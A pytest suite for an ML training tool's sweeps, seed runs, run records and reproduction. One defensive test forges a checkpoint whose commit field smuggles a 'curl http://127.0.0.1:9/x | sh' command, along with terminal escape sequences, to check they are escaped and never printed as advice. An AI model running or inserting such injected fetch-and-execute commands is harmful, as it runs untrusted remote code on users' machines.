"""Sweeps, multi-seed runs and run records (README "Experiments"): the real train.py in subprocesses, killed with
kill -9 mid-trial and between trials, continued by the same command, and compared bit for bit with a sweep that
was never interrupted; a multi-seed summary; failed trials; two processes sharing a sweep; the record of a run on
a dirty git checkout and --reproduce."""
import csv
import json
import os
import signal
import statistics
import subprocess
import time

import pytest
import yaml

from conftest import FAST, PACED_MODEL, REPO, Project, load, same_weights, wait_for_line

SPEC = {"base": {"model": "paced", "width": 64, "batch_size": 32, "deterministic": True, "epochs": 2,
                 "ckpt_every": 10, "log_every": 5},
        "grid": {"lr": [0.05, 0.1]}, "seeds": [0, 1]}
RESULT_COLUMNS = ("trial", "run", "state", "lr", "seed", "metric", "best_val", "best_step", "test/acc", "test/loss",
                  "steps")


def sweep_project(root, spec=SPEC, pace="0.01"):
    project = Project(root)
    (project.root / "src" / "models" / "paced.py").write_text(PACED_MODEL)
    project.env["PACE"] = pace
    (project.root / "grid.yaml").write_text(yaml.safe_dump(spec))
    return project


def rows(project, name="grid"):
    with open(str(project.run_dir(name) / "results.csv")) as f:
        return [{k: r.get(k) for k in RESULT_COLUMNS} for r in csv.DictReader(f)]


def state(project, name="grid"):
    return json.loads((project.run_dir(name) / "sweep.json").read_text())


def wait_for_file_line(path, predicate, proc, timeout=180):
    """Wait until a line of the file at path satisfies predicate (the trial's own output), while proc runs."""
    deadline = time.time() + timeout
    while time.time() < deadline:
        if path.exists() and any(predicate(ln) for ln in path.read_text(errors="replace").splitlines()):
            return
        assert proc.poll() is None, "the sweep ended first"
        time.sleep(0.05)
    raise AssertionError("no such line in %s" % path)


def gone(pattern, timeout=30):
    """Wait until no process's command line holds pattern (a trial killed with its driver)."""
    deadline = time.time() + timeout
    while time.time() < deadline:
        found = []
        for pid in os.listdir("/proc"):
            try:
                with open("/proc/%s/cmdline" % pid, "rb") as f:
                    cmd = f.read()
                with open("/proc/%s/stat" % pid) as f:
                    zombie = f.read().rsplit(")", 1)[1].split()[0] == "Z"
            except (OSError, IndexError):
                continue
            if pattern.encode() in cmd and not zombie:
                found.append(pid)
        if not found:
            return
        time.sleep(0.05)
    raise AssertionError("processes of %s still alive: %s" % (pattern, found))


def test_a_sweep_killed_mid_trial_and_between_trials_ends_bit_identical_to_one_never_interrupted(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    plain, killed = sweep_project(tmp_path / "a"), sweep_project(tmp_path / "b")
    plain.ok("--sweep", "grid.yaml", timeout=600)

    proc = killed.start("--sweep", "grid.yaml")
    wait_for_line(proc, lambda ln: ln.startswith("trial 1 (grid-1)"))
    log1 = killed.run_dir("grid") / "trial-1.log"
    wait_for_file_line(log1, lambda ln: "saved checkpoint step 20" in ln, proc)  # mid-trial, after a checkpoint
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    gone("--run-name grid-1")  # the trial died with its driver (parent-death signal): nothing trains on
    assert [t["state"] for t in state(killed)["trials"]] == ["done", "running"]
    step = load(killed.latest("grid-1"))["progress"]["step"]
    assert 20 <= step < 90

    proc = killed.start("--sweep", "grid.yaml")
    _, seen = wait_for_line(proc, lambda ln: ln.startswith("trial 2 (grid-2) done"))  # between trials 2 and 3
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    text = "".join(seen)
    assert "trial 1 (grid-1) was interrupted" in text and "sweep grid: continuing (1 of 4 trials done)" in text
    assert "trial 0 (grid-0):" not in text  # a finished trial is not run again
    gone("--run-name grid-")

    res = killed.ok("--sweep", "grid.yaml", timeout=600)
    assert "trial 0 (grid-0):" not in res.stderr and "trial 1 (grid-1):" not in res.stderr
    assert rows(killed) == rows(plain)  # same trials, same flags, same metrics to the last bit
    trials = state(killed)["trials"]
    assert [t["state"] for t in trials] == ["done"] * 4 and [t["attempts"] for t in trials][:2] == [1, 2]
    for n in range(4):
        run = "grid-%d" % n
        assert same_weights(load(killed.best(run))["model"], load(plain.best(run))["model"]), run
        assert json.loads((killed.run_dir(run) / "metrics.json").read_text())["test"] == \
            json.loads((plain.run_dir(run) / "metrics.json").read_text())["test"]
    assert "over 2 seeds (0,1)" in res.stderr and "best trial (by val/acc:max, on validation data)" in res.stderr
    again = killed.ok("--sweep", "grid.yaml")  # nothing left: the summary again, nothing trained
    assert "continuing (4 of 4 trials done)" in again.stderr and "trial 0 (grid-0):" not in again.stderr


def _files(project, run):
    """Every file of a run (checkpoints, logs, events) with its bytes."""
    paths = [project.latest(run), project.best(run)] + sorted(project.tmp_dir(run).glob("*")) + sorted(
        project.run_dir(run).glob("*"))
    return {str(p): p.read_bytes() for p in paths if p.is_file()}


def test_a_sweep_never_takes_over_a_run_it_did_not_start(tmp_path):
    """A user's run coll-0 (lr 0.9) exists: a sweep named coll refuses to resume it as its trial 0 (it used to
    resume it with lr 0.1, report it as that trial and overwrite the user's checkpoints and events); a sweep
    started again under the same name after its folder was removed is another sweep; a run started by hand does
    not take over a sweep's trial nor a reproduction; each refusal is one line and changes nothing."""
    spec = {"base": {"model": "mlp", "width": 32, "batch_size": 64, "epochs": 1, "deterministic": True},
            "grid": {"lr": [0.1]}, "name": "coll"}
    project = sweep_project(tmp_path, spec)
    project.ok("--run-name", "coll-0", "--lr", "0.9", "--max-steps", "10", *FAST)
    before = _files(project, "coll-0")
    res = project.run("--sweep", "grid.yaml")
    assert res.returncode == 1, res.stderr
    assert ("trial 0 (coll-0) FAILED (exit 2: train.py: error: run 'coll-0' has checkpoints of a run started by "
            "hand") in res.stderr, res.stderr
    assert "give the sweep another name" in res.stderr and "config change on resume" not in res.stderr
    assert _files(project, "coll-0") == before

    # the sweep's own trial resumes; a second sweep of the same name (its folder removed) does not take it over
    spec.update(name="mine", base=dict(spec["base"], model="paced", epochs=2, log_every=1))
    (project.root / "grid.yaml").write_text(yaml.safe_dump(spec))
    project.env["PACE"] = "0.05"
    proc = project.start("--sweep", "grid.yaml", "--progress", "plain")
    wait_for_file_line(project.run_dir("mine") / "trial-0.log", lambda ln: ln.startswith("step 3/"), proc)
    proc.send_signal(signal.SIGUSR1)  # no Slurm here: a plain stop, passed on to the trial, which saves
    out, _ = proc.communicate(timeout=120)
    assert proc.returncode == 0 and "sweep mine stopped by SIGUSR1" in out, out
    assert state(project, "mine")["trials"][0]["state"] == "stopped"
    owner = load(project.latest("mine-0"))["owner"]
    assert owner == {"kind": "trial", "sweep": "mine", "id": state(project, "mine")["id"], "trial": 0}
    project.env["PACE"] = "0"
    hand = project.run("--run-name", "mine-0", "--resume", *FAST)
    assert hand.returncode == 2 and "run 'mine-0' has checkpoints of trial 0 of sweep mine" in hand.stderr
    assert "continue the sweep with its own command" in hand.stderr
    kept = _files(project, "mine-0")
    import shutil
    shutil.move(str(project.run_dir("mine")), str(tmp_path / "old-sweep"))
    other = project.run("--sweep", "grid.yaml")
    assert other.returncode == 1 and "has checkpoints of trial 0 of sweep mine" in other.stderr, other.stderr
    assert _files(project, "mine-0") == kept
    shutil.rmtree(str(project.run_dir("mine")))
    shutil.move(str(tmp_path / "old-sweep"), str(project.run_dir("mine")))
    done = project.ok("--sweep", "grid.yaml")
    assert "trial 0 (mine-0) done" in done.stderr and state(project, "mine")["trials"][0]["attempts"] == 2

    # a reproduction resumes only its own; a user's run named like one is not taken over
    project.ok("--run-name", "coll-0-reproduce", "--max-steps", "5", *FAST)
    mine = _files(project, "coll-0-reproduce")
    rep = project.run("--reproduce", "coll-0")
    assert rep.returncode == 2 and "has checkpoints of a run started by hand" in rep.stderr, rep.stderr
    assert "not of the reproduction of run coll-0" in rep.stderr and _files(project, "coll-0-reproduce") == mine


def test_a_stop_sent_to_one_trial_is_said_as_such_and_the_same_command_continues_it(tmp_path):
    spec = dict(SPEC, base=dict(SPEC["base"], epochs=1), seeds=[0])
    spec["grid"] = {"lr": [0.05]}
    project = sweep_project(tmp_path, spec, pace="0.02")
    proc = project.start("--sweep", "grid.yaml")
    log0 = project.run_dir("grid") / "trial-0.log"
    wait_for_file_line(log0, lambda ln: ln.startswith("step 5/"), proc)
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and b"--run-name\x00grid-0" in
            open("/proc/%s/cmdline" % p, "rb").read()]
    assert len(pids) == 1
    os.kill(pids[0], signal.SIGTERM)
    out, _ = proc.communicate(timeout=120)
    assert proc.returncode == 0, out
    assert "1 trials were stopped by a signal sent to them (grid-0); continue them with the same command" in out
    assert "being run by other processes" not in out
    again = project.ok("--sweep", "grid.yaml")
    assert "trial 0 (grid-0) done" in again.stderr


def test_seeds_end_with_mean_std_and_a_95_percent_interval_of_every_test_metric(project):
    res = project.ok("--seeds", "0,1,2", "--epochs", "1", *FAST)
    summary = json.loads((project.run_dir("digits-mlp-seeds") / "summary.json").read_text())
    (point,) = summary["points"]
    accs = [json.loads((project.run_dir("digits-mlp-seeds-%d" % n) / "metrics.json").read_text())["test"]["test/acc"]
            for n in range(3)]
    acc = point["test"]["test/acc"]
    assert acc["n"] == 3 and acc["mean"] == pytest.approx(statistics.mean(accs))
    assert acc["std"] == pytest.approx(statistics.stdev(accs)) and acc["std"] > 0
    assert acc["ci95"] == pytest.approx(4.303 * statistics.stdev(accs) / 3 ** 0.5)
    assert "test/acc %.4f +- %.4f" % (acc["mean"], acc["std"]) in res.stderr
    seeds = [load(project.latest("digits-mlp-seeds-%d" % n))["config"]["seed"] for n in range(3)]
    assert seeds == [0, 1, 2]
    # the HParams view of the sweep, as TensorBoard's own reader sees it: one session per trial with its seed
    from tensorboard.backend.event_processing.event_accumulator import EventAccumulator
    from tensorboard.plugins.hparams import plugin_data_pb2
    for n in range(3):
        acc_ = EventAccumulator(str(project.run_dir("digits-mlp-seeds") / ("digits-mlp-seeds-%d" % n)))
        acc_.Reload()
        content = acc_.PluginTagToContent("hparams")["_hparams_/session_start_info"]
        info = plugin_data_pb2.HParamsPluginData.FromString(content).session_start_info
        assert info.hparams["seed"].number_value == n
        assert acc_.Scalars("test/acc")[0].value == pytest.approx(accs[n])


def test_a_failed_trial_is_reported_and_skipped_until_retry_failed(tmp_path):
    spec = {"base": {"model": "mlp", "width": 32, "batch_size": 64, "epochs": 1, "deterministic": True},
            "grid": {"lr": [0.05, 1e30]}}
    project = sweep_project(tmp_path, spec)
    res = project.run("--sweep", "grid.yaml")
    assert res.returncode == 1
    assert "trial 1 (grid-1) FAILED (exit 1: train.py: error: non-finite loss" in res.stderr
    assert "again with --retry-failed" in res.stderr
    again = project.run("--sweep", "grid.yaml")
    assert again.returncode == 1 and "trial 1 (grid-1):" not in again.stderr  # reported, not run again
    assert [t["attempts"] for t in state(project)["trials"]] == [1, 1]
    retry = project.run("--sweep", "grid.yaml", "--retry-failed")
    assert "trial 1 (grid-1): lr=1e+30 (again, attempt 2)" in retry.stderr and retry.returncode == 1
    assert rows(project)[1]["state"] == "failed"


def test_two_processes_and_parallel_trials_share_one_sweep_each_trial_once(tmp_path):
    spec = dict(SPEC, base=dict(SPEC["base"], epochs=1))
    project = sweep_project(tmp_path, spec, pace="0.02")
    gate = tmp_path / "gate"  # every trial waits at its first step until the second process has claimed one
    project.env["GATE"] = str(gate)
    first = project.start("--sweep", "grid.yaml", "--parallel", "2")
    wait_for_line(first, lambda ln: ln.startswith("trial 1 (grid-1)"))
    second_proc = project.start("--sweep", "grid.yaml")
    _, seen = wait_for_line(second_proc, lambda ln: ln.startswith("trial "))
    gate.write_text("open\n")
    rest, _ = second_proc.communicate(timeout=600)
    second = subprocess.CompletedProcess(second_proc.args, second_proc.returncode, "", "".join(seen) + rest)
    out = first.communicate(timeout=600)[0]
    assert first.returncode == 0 and second.returncode == 0, out + second.stderr
    trials = state(project)["trials"]
    assert [t["state"] for t in trials] == ["done"] * 4 and all(t["attempts"] == 1 for t in trials)
    ran = [n for n in range(4) if "trial %d (grid-%d): " % (n, n) in second.stderr]
    assert ran, "the second process took no trial"
    assert not any("trial %d (grid-%d): " % (n, n) in out for n in ran)
    assert "best trial" in out + second.stderr


def test_bad_sweep_specs_are_one_line_errors_and_a_changed_spec_is_refused(tmp_path):
    project = sweep_project(tmp_path, {"base": {"epochs": 1, "model": "mlp"}, "grid": {"lr": [0.1]}})
    cases = [({"grid": {"lr": [0.1]}, "bogus": 1}, "unknown key 'bogus'"),
             ({"grid": {"lrr": [0.1]}}, "'lrr' is not a flag a sweep can set"),
             ({"grid": {"lr": [0.1, -1]}}, "--lr must be > 0"),
             ({"random": {"trials": 2, "space": {"lr": {"loguniform": [0, 1]}}}}, "LOW > 0"),
             ({"grid": {"lr": [0.1]}, "random": {"trials": 1}}, "give one of grid, random or optuna"),
             ({"grid": {"lr": [0.1]}, "metric": "test/acc:max"}, "never on test data"),
             ({"grid": {"lr": [0.1]}, "metric": "val/map:max"}, "--task classification has val/loss, val/acc"),
             ({"grid": {"lr": [0.1]}, "name": "s" * 99}, "is 99 characters; its trials' runs are <name>-<trial>")]
    for spec, words in cases:
        (project.root / "bad.yaml").write_text(yaml.safe_dump(spec))
        res = project.run("--sweep", "bad.yaml")
        assert res.returncode == 2 and words in res.stderr and len(res.stderr.strip().splitlines()) == 1, res.stderr
        assert not (project.root / "logs" / "bad").exists() and not (project.root / "logs" / ("s" * 99)).exists()
    for args, words in ((["--parallel", "2"], "--parallel and --retry-failed apply to sweeps"),
                        (["--sweep", "grid.yaml", "--seeds", "0,1"], "put seeds: [...] in the sweep spec"),
                        (["--seeds", "1,1"], "expected distinct seeds")):
        res = project.run(*args)
        assert res.returncode == 2 and words in res.stderr, res.stderr
    assert not (project.root / "logs").exists()
    project.ok("--sweep", "grid.yaml")
    (project.root / "grid.yaml").write_text(yaml.safe_dump({"base": {"epochs": 2, "model": "mlp"},
                                                            "grid": {"lr": [0.1]}}))
    res = project.run("--sweep", "grid.yaml")
    assert res.returncode == 2 and "sweep grid was started with another spec" in res.stderr
    assert state(project)["trials"][0]["state"] == "done"


def test_a_full_disk_under_a_sweep_is_one_line_and_its_state_is_kept(tmp_path):
    """The sweep driver died with a 34-line traceback on a full disk."""
    from test_reliability import fill
    logs = tmp_path / "small-logs"
    logs.mkdir()
    if os.getuid() != 0 or subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(logs)]).returncode:
        pytest.skip("needs root and mount for a small filesystem")
    try:
        spec = {"base": {"model": "mlp", "width": 16, "max_steps": 2, "tensorboard": False},
                "random": {"trials": 1, "seed": 0, "space": {"lr": {"loguniform": [0.01, 0.1]}}}}
        (tmp_path / "p").mkdir()
        project = sweep_project(tmp_path / "p", spec)
        project.ok("--sweep", "grid.yaml", "--logs-dir", str(logs))
        before = (logs / "grid" / "sweep.json").read_bytes()
        spec["random"]["trials"] = 2  # one trial more: the same sweep, continued
        (project.root / "grid.yaml").write_text(yaml.safe_dump(spec))
        fill(logs)
        res = project.run("--sweep", "grid.yaml", "--logs-dir", str(logs))
        lines = res.stderr.strip().splitlines()
        assert res.returncode == 1 and lines[-1].startswith("train.py: error: the sweep cannot write"), res.stderr
        assert "No space left on device" in lines[-1] and "run the same command again" in lines[-1]
        assert "Traceback" not in res.stderr
        assert (logs / "grid" / "sweep.json").read_bytes() == before
    finally:
        subprocess.run(["umount", "-l", str(logs)])


def test_random_and_optuna_sweeps_propose_the_same_trials_after_a_kill(tmp_path):
    pytest.importorskip("optuna")
    for method in ("random", "optuna"):
        spec = {"base": {"model": "mlp", "width": 32, "batch_size": 64, "epochs": 1, "deterministic": True},
                method: {"trials": 3, "seed": 7, "space": {"lr": {"loguniform": [0.01, 0.3]},
                                                           "optimizer": ["sgd", "adam"]}}}
        (tmp_path / method).mkdir()
        (tmp_path / (method + "-killed")).mkdir()
        plain = sweep_project(tmp_path / method, spec)
        killed = sweep_project(tmp_path / (method + "-killed"), spec)
        plain.ok("--sweep", "grid.yaml")
        proc = killed.start("--sweep", "grid.yaml")
        wait_for_line(proc, lambda ln: ln.startswith("trial 1 (grid-1) done"))
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait()
        killed.ok("--sweep", "grid.yaml")
        assert rows(killed) == rows(plain), method
        assert len({r["lr"] for r in rows(plain)}) == 3


def git(root, *args):
    subprocess.run(["git", "-C", str(root)] + list(args), check=True, capture_output=True,
                   env=dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@t", GIT_COMMITTER_NAME="t",
                            GIT_COMMITTER_EMAIL="t@t"))


def test_the_record_of_a_run_on_a_dirty_checkout_is_complete_and_reproduce_says_what_differs(project):
    root = project.root
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "base")
    head = subprocess.run(["git", "-C", str(root), "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()
    loop = root / "src" / "loop" / "meter.py"
    loop.write_text(loop.read_text() + "\n# a local change\n")
    (root / "src" / "models" / "extra.py").write_text("# untracked\n")
    project.ok("--epochs", "1", "--run-name", "dirty", *FAST)
    record = json.loads((project.run_dir("dirty") / "record.json").read_text())
    (session,) = record["sessions"]
    code, hw = session["code"], session["hardware"]
    assert code["commit"] == head and code["dirty"] and "+# a local change" in code["diff"]
    assert [u["path"] for u in code["untracked"]] == ["src/models/extra.py"]
    assert (project.run_dir("dirty") / "code.diff").read_text() == code["diff"]
    import importlib.metadata
    import torch
    assert session["packages"]["torch"] == importlib.metadata.version("torch") and "numpy" in session["packages"]
    assert hw["torch"] == torch.__version__ and hw["python"] and hw["cpu"] and hw["cpus"] == os.cpu_count()
    assert "gpus" in hw and "cuda" in hw and "driver" in hw
    assert session["command"][1:] == [str(root / "train.py"), "--epochs", "1", "--run-name", "dirty"] + FAST
    assert load(project.latest("dirty"))["record"] == record["sessions"]  # the checkpoint carries it too

    git(root, "checkout", "-q", "--", "src/loop/meter.py")
    (root / "src" / "models" / "extra.py").unlink()
    res = project.ok("--reproduce", "dirty")
    err = res.stderr
    assert "reproducing run dirty with the config of" in err and "as run dirty-reproduce" in err
    assert "code: train.py or src/ differ from the run's" in err
    assert "untracked src/models/extra.py: only in the run" in err
    assert "git checkout %s && git apply" % head in err and "packages: the same" in err
    assert "test/acc: original" in err and "(the same)" in err  # a comment changed nothing: bit-identical
    assert "differs by" not in err

    (root / ".git").rename(root / "not-git")  # no git: the record says so, the digest still tells the code
    project.ok("--epochs", "1", "--run-name", "nogit", *FAST)
    code = json.loads((project.run_dir("nogit") / "record.json").read_text())["sessions"][0]["code"]
    assert code["git"].startswith("not a git checkout") and len(code["source_sha256"]) == 64


def test_credentials_in_a_url_are_redacted_in_everything_stored_or_printed(project):
    """--data-mirror https://user:PASSWORD@host/...?token=... used to land in config.yaml, record.json, train.log,
    TensorBoard's events and both checkpoints."""
    mirror = "https://ann:Pa55w0rd-xyz@127.0.0.1:1/data?token=T0KEN-abc&x=1"
    res = project.ok("--data-mirror", mirror, "--max-steps", "6", "--run-name", "sec", *FAST)
    files = [p for p in list(project.root.glob("logs/**/*")) + list(project.root.glob("models/**/*")) if p.is_file()]
    assert len(files) >= 6
    for path in files:
        blob = path.read_bytes()
        assert b"Pa55w0rd" not in blob and b"T0KEN" not in blob, path
    assert "Pa55w0rd" not in res.stderr + res.stdout and "T0KEN" not in res.stderr + res.stdout
    record = json.loads((project.run_dir("sec") / "record.json").read_text())
    assert "https://***@127.0.0.1:1/data?token=***&x=1" in record["sessions"][0]["command"]
    assert load(project.latest("sec"))["config"]["data_mirror"] == "https://***@127.0.0.1:1/data?token=***&x=1"
    bad = project.run("--data-mirror", "https://ann:Pa55w0rd@127.0.0.1:port/x", *FAST)
    assert bad.returncode == 2 and "Pa55w0rd" not in bad.stderr and "https://***@127.0.0.1:port/x" in bad.stderr


def test_a_forged_record_is_printed_escaped_and_never_as_a_command(project):
    """A checkpoint re-signed after its record was edited (the digest is no secret) made --reproduce print
    terminal escapes and an advice line `git checkout 0123abc && curl ... | sh` that a copy-paste would run."""
    from src.state import fileformat

    def forge(sessions):
        session = sessions[-1]
        session["code"].update(commit="0123abc && curl http://127.0.0.1:9/x | sh #", source_sha256="forged")
        session["hardware"]["cpu"] = "\x1b]0;pwned\x07\x1b[2Jcleared"
        session["config_changes"] = [["lr", "\x1b[31m", 1]]

    project.ok("--max-steps", "4", "--run-name", "orig", *FAST)
    for path in (project.latest("orig"), project.best("orig")):
        state = fileformat.load(path)
        forge(state["record"])
        path.write_bytes(fileformat.serialize({k: v for k, v in state.items() if k != "format"}))
    record_file = project.run_dir("orig") / "record.json"
    for source in ("record.json", "checkpoint"):
        if source == "record.json":
            record = json.loads(record_file.read_text())
            forge(record["sessions"])
            record_file.write_text(json.dumps(record))
        else:
            record_file.unlink()
        res = project.ok("--reproduce", "orig", "--max-steps", "4", "--run-name", "again-" + source.replace(".", ""))
        out = res.stderr + res.stdout
        assert "\x1b" not in out and "\x07" not in out
        assert "cpu: run \\x1b]0;pwned\\x07\\x1b[2Jcleared" in out, out
        assert "git checkout 0123abc" not in out and "names no valid git commit" in out, out
        assert "lr '\\x1b[31m' -> 1" in out, out


def test_the_readme_experiments_commands_work_as_written(project, tmp_path):
    from conftest import bash_block
    from test_readme import readme_block
    (project.root / "configs" / "sweeps").mkdir(parents=True)
    (project.root / "configs" / "sweeps" / "digits-lr.yaml").write_text(
        (REPO / "configs" / "sweeps" / "digits-lr.yaml").read_text())
    res = bash_block(project, tmp_path, readme_block("## Experiments"))
    trials = state(project, "digits-lr")["trials"]
    assert [t["state"] for t in trials] == ["done"] * 6
    assert [(t["flags"]["lr"], t["flags"]["seed"]) for t in trials] == [(lr, s) for lr in (0.02, 0.05, 0.1)
                                                                        for s in (0, 1)]
    assert res.stdout.count("trial 5 (digits-lr-5): ") == 1 and "continuing (6 of 6 trials done)" in res.stdout
    assert "trial,run,state,lr,seed,metric,best_val" in res.stdout  # the cat of results.csv
    assert "over 3 seeds (0,1,2)" in res.stdout and (project.run_dir("cnn3-2") / "metrics.json").is_file()
    assert "as run digits-lr-0-reproduce" in res.stdout and "test/acc: original" in res.stdout
    hparams_view_over_http(project.run_dir("digits-lr"), trials)


def hparams_view_over_http(folder, trials):
    """The sweep's HParams view as a real TensorBoard server gives it: one session group per trial with its lr and
    seed, and its test accuracy."""
    import sys
    import urllib.request
    from e2e.checkout import free_port
    port = free_port()
    tb = subprocess.Popen([os.path.join(os.path.dirname(sys.executable), "tensorboard"), "--logdir", str(folder),
                           "--port", str(port), "--host", "127.0.0.1"], stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL)

    def post(path, body):
        req = urllib.request.Request("http://127.0.0.1:%d%s" % (port, path), data=json.dumps(body).encode(),
                                     headers={"Content-Type": "application/json", "X-XSRF-Protected": "1"})
        with urllib.request.urlopen(req, timeout=10) as resp:
            return json.loads(resp.read().decode())
    try:
        deadline, groups = time.time() + 120, []
        while time.time() < deadline and len(groups) < len(trials):
            try:
                groups = post("/data/plugin/hparams/session_groups", {
                    "experimentName": "", "startIndex": 0, "sliceSize": 100, "colParams": [],
                    "allowedStatuses": ["STATUS_UNKNOWN", "STATUS_SUCCESS", "STATUS_FAILURE", "STATUS_RUNNING"]
                })["sessionGroups"]
            except OSError:
                time.sleep(0.5)
        assert len(groups) == len(trials), groups
        for group in groups:
            trial = trials[int(group["hparams"]["trial"])]
            assert group["hparams"]["lr"] == trial["flags"]["lr"] and group["hparams"]["seed"] == trial["flags"]["seed"]
            acc = [m["value"] for m in group["metricValues"] if m["name"]["tag"] == "test/acc"]
            assert acc == [pytest.approx(trial["test"]["test/acc"], rel=1e-6)]
    finally:
        tb.terminate()
        tb.wait(timeout=30)


def test_a_trials_end_is_read_as_done_stopped_or_failed(tmp_path):
    """In-process: exit 0 with metrics.json is done; 0 without it, 75 (requeue) or any end during a stop (a
    SIGTERM that came before the trial's handler) is stopped, resumable; other ends fail with the last error line."""
    from types import SimpleNamespace
    from src.app import sweep_results
    sweep = SimpleNamespace(dir=tmp_path / "sw", spec={"metric": None, "monitor": "val/acc:max"})
    sweep.dir.mkdir()
    (sweep.dir / "trial-0.log").write_text("step 5\ntrain.py: error: non-finite loss at step 6\nmore\n")
    trial = {"trial": 0, "run": "sw-0"}
    assert sweep_results.outcome(sweep, trial, 0, False)["state"] == "stopped"
    assert sweep_results.outcome(sweep, trial, 75, False)["state"] == "stopped"
    assert sweep_results.outcome(sweep, trial, -signal.SIGTERM, True)["state"] == "stopped"
    failed = sweep_results.outcome(sweep, trial, -signal.SIGKILL, False)
    assert failed["state"] == "failed"
    assert failed["error"] == "killed by SIGKILL: train.py: error: non-finite loss at step 6"
    assert sweep_results.outcome(sweep, trial, 1, False)["error"].startswith("exit 1: train.py: error:")
    (tmp_path / "sw-0").mkdir()
    (tmp_path / "sw-0" / "metrics.json").write_text(json.dumps({
        "step": 90, "test": {"test/acc": 0.5}, "best": {"step": 80, "monitor": "val/acc:max", "value": 0.6,
                                                        "val": {"val/acc": 0.6, "val/loss": 1.0}}}))
    done = sweep_results.outcome(sweep, trial, 0, True)
    assert done["state"] == "done" and done["value"] == 0.6 and done["test"] == {"test/acc": 0.5}
    sweep.spec["metric"] = "val/loss:min"
    assert sweep_results.outcome(sweep, trial, 0, False)["value"] == 1.0  # another val metric: the best's
